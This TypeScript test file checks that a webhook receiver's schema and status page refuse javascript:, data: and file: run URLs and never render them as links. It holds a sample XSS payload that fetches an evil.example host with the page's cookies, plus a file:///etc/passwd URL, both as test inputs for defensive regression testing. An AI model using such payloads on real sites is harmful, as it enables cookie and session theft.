import { Hono } from 'hono';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { ConsumedRecord } from '../../src/bus/port.js';
import { RunSchema } from '../../src/events/cicd.js';
import { createLogger } from '../../src/log.js';
import { createStatusRoutes } from '../../src/web/routes.js';
import { StatusStore } from '../../src/web/status-store.js';
import { signedRequest } from '../fixtures/standard-webhook-request.js';
import { startTestReceiver, type TestReceiver } from '../support/receiver.js';
import { SECRETS } from '../support/stack.js';

// Issue 15 hole 6: `run.url: javascript:…` was accepted into the event and rendered as a link on
// the status page. Event URLs are http(s) only, and the page links only http(s) URLs.

const EVIL = 'javascript:fetch(`//evil.example/?c=${document.cookie}`)';

describe('a javascript: run URL in a signed generic delivery', () => {
  let receiver: TestReceiver;
  let cicd: ConsumedRecord[] = [];
  beforeAll(async () => {
    receiver = await startTestReceiver({
      sources: { generic: { argo: { secrets: [SECRETS.whsec] } } },
    });
    cicd = await receiver.records([receiver.config.kafka.topics.cicd]);
  });
  afterAll(() => receiver?.close());

  it('never reaches an event as a URL', async () => {
    const body = {
      type: 'deployment.requested',
      timestamp: new Date().toISOString(),
      data: {
        project: 'acme/web',
        environment: 'production',
        deploymentId: 'd-js-1',
        run: { id: 'r1', url: EVIL },
      },
    };
    const request = signedRequest(body, { secret: SECRETS.whsec, id: 'msg_js_1', at: new Date() });
    const res = await fetch(`${receiver.url}/hooks/generic/argo`, {
      method: 'POST',
      headers: request.headers,
      body: request.body,
    });
    await res.arrayBuffer();
    expect(res.status).toBeLessThan(500);
    await new Promise((r) => setTimeout(r, 50));
    // Binary-mode CloudEvents: the type is a header, the value is the data. A delivery whose URL
    // the schema refuses is still accepted (verified), as webhook.received with its raw payload;
    // the refused URL may sit in `raw` as text, never in a field read as a URL.
    const events = cicd.map((r) => ({
      type: r.headers.ce_type ?? '',
      data: JSON.parse(r.value!.toString()) as Record<string, unknown>,
    }));
    expect(events.length).toBeGreaterThan(0);
    const urls = (value: unknown, key = ''): string[] => {
      if (key === 'raw') return [];
      if (typeof value === 'string') return /url$/i.test(key) ? [value] : [];
      if (value && typeof value === 'object')
        return Object.entries(value).flatMap(([k, v]) => urls(v, k));
      return [];
    };
    for (const e of events) {
      expect(
        urls(e.data).filter((u) => !/^https?:/i.test(u)),
        e.type,
      ).toEqual([]);
      if (e.type.startsWith('dev.changegate.deployment.'))
        expect(JSON.stringify(e.data)).not.toContain('javascript:');
    }
  });

  it('is refused by the event schema, as are data: and file: URLs', () => {
    for (const url of [EVIL, 'data:text/html,<script>1</script>', 'file:///etc/passwd'])
      expect(RunSchema.safeParse({ id: 'r1', url }).success, url).toBe(false);
    expect(RunSchema.safeParse({ id: 'r1', url: 'https://ci.example/run/1' }).success).toBe(true);
  });
});

describe('the status page given a javascript: run URL by a producer that skipped the schema', () => {
  it('renders the deployment as text, not as a link', async () => {
    const store = new StatusStore();
    store.applyGateState('CHG9', {
      number: 'CHG9',
      gates: {
        g1: {
          gate: {
            gateId: 'g1',
            changeNumber: 'CHG9',
            provider: 'generic',
            project: 'acme/web',
            environment: 'production',
            registeredAt: '2026-11-25T10:00:00.000Z',
            runUrl: EVIL,
          },
          status: 'waiting',
          reason: 'awaiting approval',
        },
      },
      touchedAt: 0,
    });
    const routes = createStatusRoutes({
      source: {
        snapshot: () => store.snapshot(),
        onChange: (l) => store.onChange(l),
        close: async () => undefined,
      },
      log: createLogger({ level: 'silent' }),
    });
    const app = new Hono().route('/status', routes.app);
    const page = await (await app.request('/status')).text();
    await routes.close();
    expect(page).toContain('acme/web');
    expect(page).not.toMatch(/href="javascript:/i);
    expect(page).not.toContain('javascript:fetch');
  });
});
